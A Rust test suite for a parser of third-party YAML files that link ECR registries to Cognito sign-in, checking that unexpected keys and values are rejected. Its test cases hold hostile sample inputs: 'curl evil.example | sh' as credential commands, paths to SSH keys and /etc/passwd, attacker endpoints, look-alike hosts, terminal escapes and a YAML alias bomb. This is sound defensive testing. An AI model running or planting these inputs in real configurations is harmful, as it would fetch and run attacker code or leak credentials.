//! Files of somebody else's: what is taken from them, and everything that is not.

use super::*;
use crate::{VendorFile, VendorRegistry};

const GOOD: &str = "\
# Northwind's images
cognito:
  user-pool-id: eu-west-1_AbCdEfGhI
  client-id: 1h57kf5cpq17m0eml12EXAMPLE
  identity-pool-id: eu-west-1:12345678-abcd-1234-abcd-123456789012
registries:
  - match: 111122223333.DKR.ecr.eu-west-1.amazonaws.com
    source: cognito
  - match: images.northwind.example:5000
    registry: 111122223333.dkr.ecr.eu-west-1.amazonaws.com
    source: cognito
";

fn vendor(text: &str) -> Result<VendorFile> {
    VendorFile::parse(text, Path::new("vendor.yml"))
}

#[test]
fn ids_hosts_and_aliases_are_taken() {
    let vendor = vendor(GOOD).unwrap();
    let registry = |name: &str, registry: Option<&str>| VendorRegistry {
        name: name.to_owned(),
        registry: registry.map(str::to_owned),
    };
    let expected = [
        registry(ECR, None),
        registry("images.northwind.example:5000", Some(ECR)),
    ];
    assert_eq!(vendor.registries, expected);
    assert_eq!(vendor.cognito.user_pool_id.as_deref(), Some("eu-west-1_AbCdEfGhI"));
    assert_eq!((vendor.cognito.username, vendor.cognito.role_arn), (None, None));
}

#[test]
fn the_documented_files_are_right() {
    let page = include_str!("../../../../docs/cognito.md");
    let example = page.split("```yaml").nth(1).unwrap().split("```").next().unwrap();
    let file = vendor(include_str!("../../../../docs/cognito/vendor.yml")).unwrap();
    assert_eq!(vendor(example).unwrap(), file);
    assert_eq!(file.registries[0].name, ECR);
}

/// The good file with one line more, in the rule (`R`), among the pools (`P`), or at the top (`T`).
fn with(place: char, line: &str) -> String {
    match place {
        'R' => GOOD.replacen(
            "    source: cognito\n",
            &format!("    source: cognito\n    {line}\n"),
            1,
        ),
        'P' => GOOD.replacen("cognito:\n", &format!("cognito:\n  {line}\n"), 1),
        _ => format!("{line}\n{GOOD}"),
    }
}

#[rstest]
// Commands, secrets, identities of the user's.
#[case::token_command('R', "token-command: curl evil.example | sh", "unknown key")]
#[case::password_command('P', "password-command: curl evil.example | sh", "unknown key")]
#[case::process('R', "credential_process: curl evil.example | sh", "unknown key")]
#[case::profile('R', "profile: production", "unknown key")]
#[case::role('R', "role-arn: arn:aws:iam::999988887777:role/admin", "unknown key")]
#[case::chain('R', "chain: [admin]", "unknown key")]
#[case::audience('R', "audience: evil.example", "unknown key")]
#[case::tags('R', "tag: {a: b}", "unknown key")]
#[case::policy('R', "policy: '@/etc/passwd'", "unknown key")]
#[case::token_file('R', "token-file: /home/me/token", "unknown key")]
#[case::token_env('R', "token-env: GITHUB_TOKEN", "unknown key")]
#[case::region('R', "region: us-east-1", "unknown key")]
#[case::optional('R', "optional: true", "unknown key")]
#[case::endpoint('R', "endpoint: https://evil.example", "unknown key")]
#[case::username('P', "username: zoe", "unknown key")]
#[case::secret_file('P', "client-secret-file: /home/me/.ssh/id_rsa", "unknown key")]
#[case::token_of_a_provider('P', "id-token-file: /home/me/token", "unknown key")]
#[case::provider('P', "provider: evil.example", "unknown key")]
#[case::pool_role('P', "role-arn: arn:aws:iam::999988887777:role/admin", "unknown key")]
#[case::flow('P', "flow: user-password", "unknown key")]
#[case::pool_endpoint('P', "endpoint: https://evil.example", "unknown key")]
#[case::defaults('T', "defaults: {source: cognito}", "unknown key")]
#[case::other_keys('T', "setup: {bin-dir: /usr/local/bin}", "unknown key")]
// Twice, or by tricks of YAML.
#[case::another_source('R', "source: chain", "a key appears twice")]
#[case::two_blocks('T', "cognito: {}", "a key appears twice")]
#[case::merge('R', "<<: {profile: production}", "")]
#[case::anchor('T', "registries: &all []", "")]
#[case::tag('P', "username: !!python/object zoe", "")]
#[case::documents('T', "registries: []\n---", "")]
fn nothing_more(#[case] place: char, #[case] line: &str, #[case] cause: &str) {
    let error = vendor(&with(place, line)).unwrap_err();
    assert_eq!(error.exit(), Exit::Usage);
    assert!(error.to_string().contains(cause), "{error}");
    if cause.starts_with("unknown") {
        let line = match place {
            'R' => 9,
            'P' => 3,
            _ => 1,
        };
        let place = format!("vendor.yml:{line}:");
        assert!(error.to_string().starts_with(&place), "{error}");
        assert!(error.hint_text().unwrap().contains("nothing more"), "{error:?}");
    }
}

/// Somebody who writes such a file can say nothing to the user in an error.
#[rstest]
#[case::key("cognito:", "'call 0800 EVIL': x\ncognito:")]
#[case::key_twice("cognito:", "'call 0800 EVIL': x\n'call 0800 EVIL': x\ncognito:")]
#[case::inner_key("    source", "    EVIL: x\n    source")]
#[case::source("source: cognito", "source: call 0800 EVIL")]
#[case::pool("eu-west-1_AbCdEfGhI", "call 0800 EVIL")]
#[case::name("111122223333.DKR.ecr.eu-west-1.amazonaws.com", "https://call-0800.EVIL.example/x")]
#[case::glob("111122223333.DKR", "'*EVIL*.DKR")]
#[case::port("eu-west-1.amazonaws.com", "eu-west-1.amazonaws.com:80 #EVIL")]
#[case::no_registry("111122223333.DKR.ecr.eu-west-1.amazonaws.com", "call-0800.EVIL.example")]
#[case::alias("images.northwind.example:5000", "call-0800-EVIL")]
#[case::popular_alias("images.northwind.example:5000", "call-0800-EVIL.docker.io")]
#[case::behind("registry: 1", "registry: EVIL")]
#[case::anchor("cognito:", "cognito: &EVIL")]
#[case::unknown_anchor("source: cognito", "source: *EVIL")]
#[case::tag("source: cognito", "source: !EVIL x")]
#[case::type_("cognito:", "registries: EVIL\ncognito:")]
#[case::list("source: cognito", "source: [EVIL]")]
#[case::garbage("cognito:", "EVIL: [\ncognito:")]
#[case::directive("# Northwind", "%EVIL x\n# Northwind")]
fn an_error_says_nothing_of_the_files(#[case] old: &str, #[case] new: &str) {
    let text = GOOD.replacen(old, new, 1);
    assert_ne!(text, GOOD);
    let error = vendor(&text).unwrap_err();
    let said = format!("{error} {}", error.hint_text().unwrap_or_default()).to_lowercase();
    assert!(!said.contains("evil") && !said.contains("0800"), "{said}");
}

#[rstest]
// Which registries are meant.
#[case::glob("'*.dkr.ecr.*.amazonaws.com'", "a glob also matches registries of others")]
#[case::public("public.ecr.aws", "ECR Public serves everybody")]
#[case::public_dual_stack("ecr-public.aws.com", "ECR Public serves everybody")]
#[case::hub("docker.io", "no \"registry\" says")]
#[case::nothing("''", "\"match\" must be a host name")]
#[case::a_url(
    "https://111122223333.dkr.ecr.eu-west-1.amazonaws.com/v2/",
    "\"match\" must be the name of a host alone"
)]
#[case::escapes("\"a\\e]0;owned\\a.example\"", "\"match\" must be a host name")]
#[case::look_alike("111122223333.dkr.ecr.eu-west-1.amazonaws.com.evil.example", "is not an ECR host")]
#[case::unicode("\"\\u202emoc.elpmaxe\"", "\"match\" must be a host name")]
fn hosts_of_others(#[case] host: &str, #[case] cause: &str) {
    let error = vendor(&GOOD.replace("111122223333.DKR.ecr.eu-west-1.amazonaws.com", host)).unwrap_err();
    assert!(error.to_string().contains(cause), "{error}");
    assert!(!error.to_string().contains(char::is_control));
}

#[rstest]
#[case::hub("docker.io", "belongs to docker.io")]
#[case::index("index.docker.io", "belongs to docker.io")]
#[case::google("eu.gcr.io:443", "belongs to gcr.io")]
#[case::this_machine("localhost:5000", "in this machine's own network")]
#[case::a_short_name("registry", "in this machine's own network")]
#[case::an_address("10.0.0.1:5000", "in this machine's own network")]
#[case::address_6("'[::1]:5000'", "in this machine's own network")]
#[case::the_network("registry.corp.internal", "in this machine's own network")]
#[case::a_host(
    "222233334444.dkr.ecr.eu-west-1.amazonaws.com",
    "\"registry\" is for names that are not ECR's own"
)]
#[case::twice("111122223333.dkr.ecr.eu-west-1.amazonaws.com", "\"registry\" is for names")]
fn aliases_of_others(#[case] alias: &str, #[case] cause: &str) {
    let error = vendor(&GOOD.replace("images.northwind.example:5000", alias)).unwrap_err();
    assert!(error.to_string().contains(cause), "{error}");
}

#[rstest]
#[case::another_host("registry: evil.example")]
#[case::public("registry: public.ecr.aws")]
#[case::a_path("registry: 111122223333.dkr.ecr.eu-west-1.amazonaws.com/x")]
#[case::nothing("registry:")]
fn what_an_alias_stands_for(#[case] registry: &str) {
    let (before, after) = GOOD.split_once("    registry: ").unwrap();
    let (_, after) = after.split_once('\n').unwrap();
    vendor(&format!("{before}    {registry}\n{after}")).unwrap_err();
}

#[rstest]
#[case::pool("eu-west-1_AbCdEfGhI", "evil.example/_x", "\"user-pool-id\"")]
#[case::client("1h57kf5cpq17m0eml12EXAMPLE", "a b", "\"client-id\"")]
#[case::identity_pool("eu-west-1:12345678", "evil.example#:12345678", "\"identity-pool-id\"")]
#[case::no_pool("  user-pool-id: eu-west-1_AbCdEfGhI\n", "", "the key \"user-pool-id\" is missing")]
#[case::no_source("    source: cognito\n", "", "\"source: cognito\" is missing")]
#[case::no_match("match: 111122223333.DKR", "source: cognito\n    x: ", "")]
#[case::twice(
    "images.northwind.example:5000\n    registry:",
    "111122223333.dkr.ecr.eu-west-1.amazonaws.com #",
    "is in an earlier rule"
)]
fn ids_are_checked(#[case] old: &str, #[case] new: &str, #[case] cause: &str) {
    let text = GOOD.replacen(old, new, 1);
    assert_ne!(text, GOOD);
    let error = vendor(&text).unwrap_err();
    assert!(error.to_string().contains(cause), "{error}");
}

#[rstest]
#[case::empty("")]
#[case::a_list("- a\n")]
#[case::no_registries(
    "cognito: {user-pool-id: eu-west-1_A, client-id: a, identity-pool-id: eu-west-1:12345678-abcd-1234-abcd-123456789012}\n"
)]
#[case::no_pools("registries: [{match: 111122223333.dkr.ecr.eu-west-1.amazonaws.com, source: cognito}]\n")]
#[case::laughs("a: &a [x, x]\nb: &b [*a, *a]\nregistries: [*b, *b]\n")]
#[case::deep(&"[".repeat(20_000))]
#[case::nul("cognito: \0\n")]
fn other_files(#[case] text: &str) {
    assert_eq!(vendor(text).unwrap_err().exit(), Exit::Usage);
}

#[test]
fn more_than_anybody_looks_through() {
    let head = GOOD.split("registries:").next().unwrap();
    let rule = |n: u64| format!("- match: {n}.dkr.ecr.eu-west-1.amazonaws.com\n  source: cognito\n");
    let file = |count| {
        format!(
            "{head}registries:\n{}",
            (0..count).map(|n| rule(100_000_000_000 + n)).collect::<String>()
        )
    };
    assert_eq!(vendor(&file(100)).unwrap().registries.len(), 100);
    assert!(vendor(&file(101)).unwrap_err().cause().contains("more than 100"));

    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("vendor.yml");
    std::fs::write(&path, format!("{GOOD}#{}", "x".repeat(64 << 10))).unwrap();
    assert!(
        VendorFile::read(&path)
            .unwrap_err()
            .cause()
            .contains("larger than 64 KiB")
    );
    assert_eq!(VendorFile::read(folder.path()).unwrap_err().exit(), Exit::Usage);
}

#[test]
fn rules_of_the_users_own_are_told_by_line() {
    let asked = vendor(GOOD).unwrap().registries;
    let line = |rules: &str, at: usize| {
        let block = GOOD.split("registries:").next().unwrap();
        let config = parse(&format!("{block}registries:\n{rules}")).unwrap();
        config.place_against(&asked[at]).and_then(|place| place.line)
    };
    let alias = "images.northwind.example:5000";
    assert_eq!(line(&format!("- match: {ECR}\n  source: cognito\n"), 0), None);
    assert_eq!(
        line(&format!("- match: {alias}\n  registry: {ECR}\n  source: cognito\n"), 1),
        None
    );
    assert_eq!(
        line(
            "- match: 222233334444.dkr.ecr.eu-west-1.amazonaws.com\n  profile: x\n",
            0
        ),
        None
    );
    for own in ["profile: x", "role-arn: x", "source: chain", "optional: true"] {
        assert_eq!(line(&format!("- match: {ECR}\n  {own}\n"), 0), Some(7), "{own}");
    }
    for source in ["profile: x", "source: cognito"] {
        assert_eq!(
            line(&format!("- match: '1*.dkr.ecr.*.amazonaws.com'\n  {source}\n"), 0),
            Some(7)
        );
    }
    let other = "222233334444.dkr.ecr.eu-west-1.amazonaws.com";
    assert_eq!(
        line(
            &format!("- match: {alias}\n  registry: {other}\n  source: cognito\n"),
            1
        ),
        Some(7)
    );
    assert_eq!(line(&format!("- match: {alias}\n  registry: {ECR}\n"), 1), Some(7));
}

proptest! {
    /// Whatever the file holds, only harmless values are accepted.
    #[test]
    fn any_text_is_survived(text in any::<String>(), line in any::<String>(), at in 0usize..12) {
        let _ = vendor(&text);
        let mut lines: Vec<&str> = GOOD.lines().collect();
        lines.insert(at.min(lines.len()), &line);
        match vendor(&lines.join("\n")) {
            Ok(taken) => prop_assert!(taken.registries.iter().all(|it| it.name.bytes().all(|b| b.is_ascii_graphic()))),
            Err(error) => prop_assert!(!error.to_string().contains(char::is_control)),
        }
    }
}
